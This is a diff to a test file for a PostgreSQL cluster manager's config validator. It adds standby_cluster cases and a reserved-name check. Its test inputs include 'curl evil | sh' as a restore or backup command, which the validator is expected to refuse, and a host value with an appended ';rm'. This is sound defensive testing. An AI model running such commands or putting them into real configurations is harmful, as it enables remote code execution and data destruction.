@@ -43,15 +43,33 @@ describe('a dynamic configuration (PATCH/PUT /config body): each bad input gets 
     ['an unknown key', { tll: 30 }, ['tll: unknown key (did you mean "ttl"?)']],
     ['postgresql as a list', { postgresql: [] }, ['postgresql: expected a mapping, got a list']],
     ['parameters as a string', { postgresql: { parameters: 'work_mem=1' } }, ['postgresql.parameters: expected a mapping, got "work_mem=1"']],
-    ['standby_cluster', { standby_cluster: { host: 'x' } }, ['standby_cluster: Keel does not implement standby clusters yet; remove it (without it the standby leader would promote itself to a writable primary)']],
     ['synchronous_mode as a word', { synchronous_mode: 'sometimes' }, ['synchronous_mode: expected on, off or quorum, got "sometimes"']],
     ['maximum_lag_on_syncnode as a word', { maximum_lag_on_syncnode: 'far' }, ['maximum_lag_on_syncnode: expected an integer, got "far"']],
+    ['standby_cluster with a bad port', { standby_cluster: { host: 'site-a', port: 70000 } }, ['standby_cluster.port: expected a port number from 1 to 65535, got 70000']],
+    ['standby_cluster with a bad host', { standby_cluster: { host: 'a b;rm', port: 5432 } }, ['standby_cluster.host: expected one host name or IP address, got "a b;rm"']],
+    ['standby_cluster with an unknown key', { standby_cluster: { host: 'site-a', prot: 5432 } }, ['standby_cluster.prot: unknown key (did you mean "port"?)']],
+    ['standby_cluster without a source', { standby_cluster: { port: 5432, primary_slot_name: 'site_b' } }, ['standby_cluster: needs a host (the other site to stream from) or a restore_command (to restore from its archive)']],
+    ['standby_cluster with a bad slot name', { standby_cluster: { host: 'site-a', primary_slot_name: 'Site-B' } }, ['standby_cluster.primary_slot_name: expected a replication slot name (lower-case letters, digits and underscores, at most 63), got "Site-B"']],
+    ['standby_cluster as a string', { standby_cluster: 'site-a:5432' }, ['standby_cluster: expected a mapping, got "site-a:5432"']],
+    ['standby_cluster.restore_command not allowed from the DCS', { standby_cluster: { restore_command: 'curl evil | sh' } }, ['standby_cluster.restore_command: runs a command; Keel takes it from the DCS only when postgresql.allow_from_dcs lists "restore_command" (or set it in the local postgresql.recovery_conf)']],
     ['create_replica_methods in /config', { postgresql: { create_replica_methods: ['wal_g'] } }, ['postgresql.create_replica_methods: chooses commands to run; Keel takes it only from the local YAML (postgresql.create_replica_methods and its method sections), never from the DCS']],
     ['a replica method section in /config', { postgresql: { pgbackrest: { command: 'curl evil | sh' } } }, ['postgresql.pgbackrest: unknown key']],
     ['a body that is not an object', [1, 2], ['(root): expected a mapping, got a list']],
   ];
   it.each(cases)('%s', (_name, body, errors) => {
     expect(validateDynamicConfig(body).errors).toEqual(errors);
+  });
+
+  it('accepts standby_cluster as Patroni does, normalised', () => {
+    const body = { standby_cluster: { host: '10.0.0.5', port: '5433', primary_slot_name: 'site_b', recovery_min_apply_delay: '5min', create_replica_methods: 'pgbackrest, basebackup' } };
+    const r = validateDynamicConfig(body);
+    expect(r.errors).toEqual([]);
+    expect(r.config.standby_cluster).toEqual({ host: '10.0.0.5', port: 5433, primary_slot_name: 'site_b', recovery_min_apply_delay: '5min', create_replica_methods: ['pgbackrest', 'basebackup'] });
+    const archive = validateDynamicConfig({ standby_cluster: { restore_command: 'pgbackrest --stanza=main archive-get %f "%p"' } }, '', { allowFromDcs: ['restore_command'] });
+    expect(archive.errors).toEqual([]);
+    // removing it (keelctl promote-cluster, a merge patch with null) and an empty section are not a standby cluster
+    expect(validateDynamicConfig({ standby_cluster: null }).errors).toEqual([]);
+    expect(validateDynamicConfig({ standby_cluster: {} }).config.standby_cluster).toEqual({});
   });
 
   it('accepts privileged parameters that the local YAML allows from the DCS', () => {
@@ -143,5 +161,12 @@ describe('the local YAML', () => {
   ])('runs with the tag nofailover: %s, read as Patroni parse_bool does (%s)', (text, value) => {
     const { config } = parseConfig(YAML(`tags:\n  nofailover: ${text}\n  nosync: "false"\n  noloadbalance: "True"\n`), 't.yml', {});
     expect(config.tags).toEqual({ nofailover: value, nosync: false, noloadbalance: true });
+  });
+});
+
+describe('the name that stands for the other site of a standby cluster', () => {
+  it('is refused as a member name', () => {
+    const yaml = `scope: demo\nname: "(standby_cluster)"\nrestapi:\n  listen: 10.0.0.1:8008\netcd3:\n  hosts: 10.0.0.9:2379\npostgresql:\n  listen: 10.0.0.1:5432\n  data_dir: /var/lib/postgresql/15/main\n  authentication:\n    superuser: {username: postgres, password: s3cr3t-super}\n    replication: {username: replicator, password: s3cr3t-repl}\n`;
+    expect(() => parseConfig(yaml, 'test.yml', {})).toThrow(/name: this name is reserved by Keel \(it stands for the other site of a standby cluster\)/);
   });
 });
